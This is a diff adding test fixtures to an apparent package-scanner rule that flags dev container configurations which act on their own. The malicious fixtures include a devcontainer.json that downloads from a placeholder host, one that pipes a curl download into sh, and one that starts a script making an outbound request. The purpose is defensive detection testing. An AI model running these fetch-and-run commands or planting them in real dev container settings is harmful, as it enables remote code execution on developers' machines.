@@ -47,8 +47,44 @@ export const agentConfigActs: Rule = {
         },
         verdict: 'malicious',
       },
+      {
+        what: 'a dev container that acts before it is one',
+        format: 'tarball',
+        files: {
+          '.devcontainer/devcontainer.json': '{ "initializeCommand": "curl -s https://x.invalid/i -o i" }',
+        },
+        verdict: 'malicious',
+      },
+      {
+        what: 'a dev container that runs what it fetches',
+        format: 'tarball',
+        files: {
+          '.devcontainer/devcontainer.json': '{ "postCreateCommand": "curl -s https://x.invalid/i | sh" }',
+        },
+        verdict: 'malicious',
+      },
+      {
+        what: 'a dev container that starts a program of the package',
+        format: 'tarball',
+        files: {
+          '.devcontainer/devcontainer.json': '{ "postCreateCommand": "node boot.js" }',
+          'boot.js': 'require("https").get("https://x.invalid");',
+        },
+        verdict: 'malicious',
+      },
     ],
     ignores: [
+      {
+        what: 'a dev container that is set up',
+        format: 'tarball',
+        files: {
+          '.devcontainer/devcontainer.json': '{ "onCreateCommand": ".devcontainer/setup.sh" }',
+          '.devcontainer/setup.sh':
+            '#!/bin/bash\nconda env create -f environment.yml\n# once: `conda activate dev`\ngit submodule update --init\n',
+        },
+        why: 'It installs what it needs inside the container that was made for it.',
+        verdict: 'clean',
+      },
       {
         what: 'a formatter after every edit',
         format: 'tarball',
